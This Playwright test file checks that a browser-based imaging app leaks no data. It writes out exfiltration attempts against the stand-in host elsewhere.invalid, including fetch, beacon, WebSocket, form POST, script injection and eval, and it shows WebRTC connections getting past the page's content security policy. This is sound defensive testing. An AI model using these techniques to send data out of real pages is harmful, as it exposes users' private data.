/**
 * Nothing leaves the browser, neither by accident, which every test checks, nor from an altered page.
 */
import { mkdtempSync, readFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { chromium, test as base, type Page } from '@playwright/test';
import { Elsewhere } from './elsewhere.ts';
import { FLAGS } from './playwright.config.ts';
import { Scope, expect, test } from './page.ts';

// No retries: a single leak is a failure.
test.describe.configure({ retries: 0 });

/** A host that does not exist. No request to it may reach the network. */
const ELSEWHERE = 'https://elsewhere.invalid/?slice';

test('the watch sees the requests of workers', async ({ scope, page }) => {
  const seen: string[] = [];
  page.on('request', (request) => seen.push(new URL(request.url()).pathname));
  await scope.open('?backend=cpu');
  for (const file of ['worker/worker.js', 'pkg/glioscope_bg.wasm', 'model/weights.safetensors']) {
    expect(seen.some((path) => path.endsWith(`/www/${file}`)), file).toBe(true);
  }
});

test('the page sends no request once it is ready', async ({ scope, page }) => {
  const seen: string[] = [];
  page.on('request', (request) => seen.push(request.url()));
  await scope.open('?backend=cpu&workers=3');
  // Each of the three workers imports the package.
  await expect.poll(() => seen.filter((address) => address.endsWith('pkg/glioscope.js')).length).toBe(3);
  // The page fetches the volume viewer when it is idle.
  await expect.poll(() => seen.some((address) => address.endsWith('vendor/niivue.js'))).toBe(true);
  await expect.poll(async () => {
    const before = seen.length;
    await page.waitForTimeout(1500);
    return seen.length - before;
  }).toBe(0);
  seen.length = 0;
  await page.click('#sample');
  await scope.is('done');
  await scope.download();
  await page.locator('input[name="layout"][value="volume"]').check({ force: true });
  await expect(page.locator('#volume .hint')).toContainText('Voxels are shown as cubes');
  // `blob:` and `data:` URLs cause no network traffic.
  expect(seen.filter((address) => !/^(blob|data):/.test(address))).toEqual([]);
});

test('opened files are not stored', async ({ scope, page, context }) => {
  await scope.open('?backend=cpu');
  await page.click('#sample');
  await scope.is('done');
  await scope.download();
  const stored = await page.evaluate(async () => ({
    local: localStorage.length,
    session: sessionStorage.length,
    databases: (await indexedDB.databases()).length,
    caches: (await caches.keys()).length,
    files: await navigator.storage.getDirectory().then(async (folder) => {
      let count = 0;
      for await (const _ of (folder as unknown as { keys(): AsyncIterable<string> }).keys()) count++;
      return count;
    }),
  }));
  // Service workers are off in this test. They store only the site, which `offline.spec.ts` tests.
  expect(stored).toEqual({ local: 0, session: 0, databases: 0, caches: 0, files: 0 });
  expect(await context.cookies()).toEqual([]);
});

/** Ways in which an altered page could send data or run code. Each returns its result. */
const ATTEMPTS: Record<string, { run: (address: string) => Promise<string>; stopped: RegExp }> = {
  fetch: { run: (address) => fetch(address).then(() => 'answered', () => 'refused'), stopped: /^refused$/ },
  'a beacon': { run: async (address) => String(navigator.sendBeacon(address, 'slice')), stopped: /./ },
  'an XMLHttpRequest': {
    run: (address) =>
      new Promise((resolve) => {
        const request = new XMLHttpRequest();
        request.onload = () => resolve('answered');
        request.onerror = () => resolve('refused');
        request.open('POST', address);
        request.send('slice');
      }),
    stopped: /^refused$/,
  },
  'a WebSocket': {
    run: (address) =>
      new Promise((resolve) => {
        // The host never answers, so the test waits for the policy's event.
        addEventListener('securitypolicyviolation', () => resolve('refused'), { once: true });
        try {
          new WebSocket(address.replace('https', 'wss')).onerror = () => setTimeout(() => resolve('asked'), 1000);
        } catch {
          resolve('refused');
        }
      }),
    stopped: /^refused$/,
  },
  'an event stream': {
    run: (address) =>
      new Promise((resolve) => {
        addEventListener('securitypolicyviolation', () => resolve('refused'), { once: true });
        new EventSource(address).onerror = () => setTimeout(() => resolve('asked'), 1000);
      }),
    stopped: /^refused$/,
  },
  'a picture': { run: (address) => add('img', { src: address }), stopped: /^refused$/ },
  'a script': { run: (address) => add('script', { src: address }), stopped: /^(refused|TypeError)/ },
  'a style': { run: (address) => add('link', { rel: 'stylesheet', href: address }), stopped: /^refused$/ },
  'a prefetch': { run: (address) => add('link', { rel: 'prefetch', href: address }), stopped: /^refused$/ },
  'a frame': { run: (address) => add('iframe', { src: address }), stopped: /./ },
  'a form': {
    run: async (address) => {
      const form = document.createElement('form');
      form.action = address;
      form.method = 'post';
      document.body.append(form);
      form.submit();
      return 'sent';
    },
    stopped: /./,
  },
  'a worker from elsewhere': {
    run: async (address) => {
      try {
        new Worker(address);
        return 'started';
      } catch (error) {
        return String(error);
      }
    },
    stopped: /^TypeError/,
  },
  // In a timeout, because the policy does not apply to code that the test evaluates.
  eval: {
    run: () => new Promise((resolve) => setTimeout(() => {
      try {
        resolve(String(eval('"ran"')));
      } catch (error) {
        resolve(String(error));
      }
    })),
    stopped: /^(EvalError|TypeError)/,
  },
  'new Function': {
    run: () => new Promise((resolve) => setTimeout(() => {
      try {
        resolve(String(new Function('return "ran"')()));
      } catch (error) {
        resolve(String(error));
      }
    })),
    stopped: /^(EvalError|TypeError)/,
  },
  innerHTML: {
    run: async (address) => {
      document.createElement('p').innerHTML = `<img src="${address}">`;
      return 'ran';
    },
    stopped: /^TypeError/,
  },
  'an inline script': {
    run: async () => {
      const script = document.createElement('script');
      script.text = 'document.body.dataset.ran = "yes"';
      document.body.append(script);
      return document.body.dataset.ran ?? 'refused';
    },
    stopped: /^(refused|TypeError)/,
  },
  'an inline style': {
    run: async () => {
      const style = document.createElement('style');
      style.textContent = 'body { outline: 7px solid red }';
      document.head.append(style);
      return getComputedStyle(document.body).outlineWidth === '7px' ? 'ran' : 'refused';
    },
    stopped: /^refused$/,
  },
};

/** Runs in the page: adds an element that loads a resource. */
declare function add(tag: string, attributes: Record<string, string>): Promise<string>;

base('the policy stops an altered page from sending data', async ({ page }) => {
  const asked: string[] = [];
  const note = (url: string) => url.startsWith('https://elsewhere') && asked.push(url);
  // A blocked request is reported and fails before it is sent. This route sees only what reaches the network.
  await page.context().route('https://elsewhere.invalid/**', (route) => {
    note(route.request().url());
    return route.fulfill({ body: 'leaked', headers: { 'Access-Control-Allow-Origin': '*' } });
  });
  await page.goto('./?backend=cpu&workers=1');
  await expect(page.locator('body')).toHaveAttribute('data-state', 'ready');
  const address = page.url();
  await page.evaluate(() => {
    Object.assign(globalThis, {
      add: (tag: string, attributes: Record<string, string>) =>
        new Promise((resolve) => {
          const element = document.createElement(tag);
          element.onload = () => resolve('answered');
          element.onerror = () => resolve('refused');
          document.addEventListener('securitypolicyviolation', () => resolve('refused'), { once: true });
          Object.assign(element, attributes);
          document.body.append(element);
        }),
    });
  });
  for (const [name, { run, stopped }] of Object.entries(ATTEMPTS)) {
    const result = await page.evaluate(run, ELSEWHERE).catch((error: Error) => error.message.replace(/^page\.evaluate: /, ''));
    expect(result, name).toMatch(stopped);
  }
  // The worker has the files, so its policy is tested too.
  expect(page.workers()).toHaveLength(1);
  for (const name of ['fetch', 'an XMLHttpRequest', 'a WebSocket', 'eval']) {
    const { run, stopped } = ATTEMPTS[name];
    const result = await page.workers()[0].evaluate(run, ELSEWHERE).catch((error: Error) => error.message.replace(/^worker\.evaluate: /, ''));
    expect(result, `${name} in the worker`).toMatch(stopped);
  }
  await page.waitForTimeout(500);
  expect(asked).toEqual([]);
  expect(page.url(), 'the page has not navigated').toBe(address);
});

/** Starts a browser that records its network activity, below the level of the page and the test framework. */
function recorded() {
  const log = join(mkdtempSync(join(tmpdir(), 'glioscope-net-')), 'net.json');
  const launched = chromium.launch({
    executablePath: process.env.GLIOSCOPE_CHROMIUM ?? '/usr/bin/chromium',
    args: [...FLAGS, `--log-net-log=${log}`, '--net-log-capture-mode=Everything'],
  });
  return { launched, read: () => traffic(readFileSync(log, 'utf8')) };
}

/** All names looked up, sockets opened and datagrams sent, also those of the browser itself. */
base('over a whole session the browser looks up no other name and opens sockets only to the site', async ({ baseURL }) => {
  const { launched, read } = recorded();
  const browser = await launched;
  const context = await browser.newContext({ baseURL, acceptDownloads: true, serviceWorkers: 'allow' });
  const page = await context.newPage();
  const scope = new Scope(page);
  await scope.open('?backend=cpu');
  await page.click('#sample');
  await scope.is('done');
  await scope.download();
  await page.evaluate(() => navigator.serviceWorker.ready.then(() => undefined));
  await page.reload();
  await scope.is('ready');
  await browser.close();

  const site = new URL(baseURL ?? '');
  const { names, peers, datagrams } = read();
  expect(peers.size, 'the record includes the site').toBeGreaterThan(0);
  // The browser checks for its own updates. A lookup for a site has the site's key, with one exception: on a page with a form
  // Chrome sends hashes of the field names to its vendor, for autofill.
  const own = names.filter(({ name, key }) =>
    name === 'content-autofill.googleapis.com' || (/\.(google|googleapis|gvt1)\.com$/.test(name) && !key.includes(site.hostname)));
  const local = names.filter(({ name }) => ['localhost', '127.0.0.1', '[::1]', site.hostname].includes(name));
  expect(names.filter((asked) => !own.includes(asked) && !local.includes(asked)), 'names looked up').toEqual([]);
  // On a machine that reaches Google, these addresses belong to the names above.
  const port = site.port || '80';
  const expected = ['127.0.0.1', '[::1]'].map((address) => `${address}:${port}`);
  const unexpected = [...peers].filter((peer) => !expected.includes(peer));
  expect(unexpected.length, `sockets to ${unexpected.join(', ')}`).toBeLessThanOrEqual(own.length);
  // WebRTC sends datagrams without a connection.
  expect([...datagrams], 'datagrams to').toEqual([]);
});

/** Opens a WebRTC connection to a server, and waits until all candidates are gathered or the time is over. */
async function connect(page: Page, server: string, patience = 5000) {
  await page.evaluate(async ([address, most]) => {
    const connection = new RTCPeerConnection({
      iceServers: [{ urls: `stun:${address}` }, { urls: `turn:${address}?transport=tcp`, username: 'slice', credential: 'slice' }],
    });
    connection.createDataChannel('slice');
    const gathered = new Promise((done) => (connection.onicecandidate = ({ candidate }) => candidate ?? done(0)));
    await connection.setLocalDescription();
    await Promise.race([gathered, new Promise((done) => setTimeout(done, most))]);
    connection.close();
  }, [server, patience] as const);
}

const ALONE = 'this machine has no address on a network';

base('a policy in the page does not stop WebRTC: data of an altered page arrives, and the browser’s record shows it', async ({ baseURL }) => {
  const listener = await Elsewhere.listen();
  base.skip(!listener, ALONE);
  if (!listener) return;
  const { launched, read } = recorded();
  const browser = await launched;
  const page = await browser.newPage({ baseURL });
  // Like a host that cannot set headers.
  await page.route(/\/(\?.*)?$/, async (route) => {
    const response = await route.fetch();
    const { 'connection-allowlist': _, ...headers } = response.headers();
    await route.fulfill({ response, headers });
  });
  await new Scope(page).open('?backend=cpu&workers=1');
  // The worker has the files, but no WebRTC.
  expect(await page.workers()[0].evaluate(() => typeof RTCPeerConnection)).toBe('undefined');
  // The server never answers, so closing the browser ends this call.
  const connecting = connect(page, listener.address, 120_000).catch(() => undefined);
  // If a future browser stops WebRTC by the page's policy, this fails and the documentation can promise more.
  await expect.poll(() => listener.heard).toEqual(expect.arrayContaining(['udp', 'tcp']));
  await browser.close();
  await connecting;
  listener.close();
  const { datagrams, peers } = read();
  expect([...datagrams], 'the record shows WebRTC traffic').toContain(listener.address);
  expect([...peers]).toContain(listener.address);
});

/** The oldest Chromium in which Connection-Allowlist was seen to stop WebRTC. In 148 it does not. */
const ALLOWLIST_VERSION = 156;

base('with all headers WebRTC and navigation to another host are blocked, and the page works', async ({ page }) => {
  const listener = await Elsewhere.listen();
  base.skip(!listener, ALONE);
  if (!listener) return;
  expect((await page.request.get('./')).headers()['connection-allowlist']).toBe('(response-origin)');
  const scope = new Scope(page);
  await scope.open('?backend=cpu&workers=1');
  await page.click('#sample');
  await scope.is('done');
  expect((await scope.download()).bytes.length).toBeGreaterThan(1000);
  await page.click('#tab-save');
  const opening = page.context().waitForEvent('page');
  await page.click('[data-command="save-report"]');
  await expect((await opening).locator('h1')).toBeVisible();
  const version = page.context().browser()?.version() ?? '';
  if (Number.parseInt(version) < ALLOWLIST_VERSION) {
    listener.close();
    const reason = `Chromium ${version} does not support Connection-Allowlist; ${ALLOWLIST_VERSION} does`;
    console.log(`the page works; the rest is skipped: ${reason}`);
    base.skip(true, reason);
  }
  await connect(page, listener.address);
  await page.evaluate((address) => location.assign(`http://${address}/?slice`), listener.address);
  await page.waitForTimeout(1500);
  listener.close();
  expect(listener.heard).toEqual([]);
});

/** Reads a network log: name lookups with the key of their site, and addresses. A log that was not closed lacks its end. */
function traffic(text: string) {
  const log = JSON.parse(/\]\s*\}\s*$/.test(text) ? text : `${text.trim().replace(/,$/, '')}]}`);
  const types: Record<string, number> = log.constants.logEventTypes;
  const kinds = new Map(Object.entries(types).map(([name, type]) => [type, name]));
  const names: { name: string; key: string }[] = [];
  const [peers, datagrams] = [new Set<string>(), new Set<string>()];
  for (const { type, params = {} } of log.events) {
    const kind = kinds.get(type) ?? '';
    if (/^HOST_RESOLVER_(MANAGER_REQUEST|DNS_TASK|SYSTEM_TASK)/.test(kind) && params.host) {
      const name = String(params.host).replace(/^[a-z]+:\/\//, '').replace(/:\d+$/, '');
      names.push({ name, key: String(params.network_anonymization_key ?? '') });
    }
    if (/^(TCP_CONNECT_ATTEMPT|UDP_CONNECT|UDP_BYTES_SENT)$/.test(kind) && params.address) peers.add(String(params.address));
    // A connected socket has its address only in UDP_CONNECT.
    if (kind === 'UDP_BYTES_SENT' && params.address) datagrams.add(String(params.address));
  }
  return { names, peers, datagrams };
}
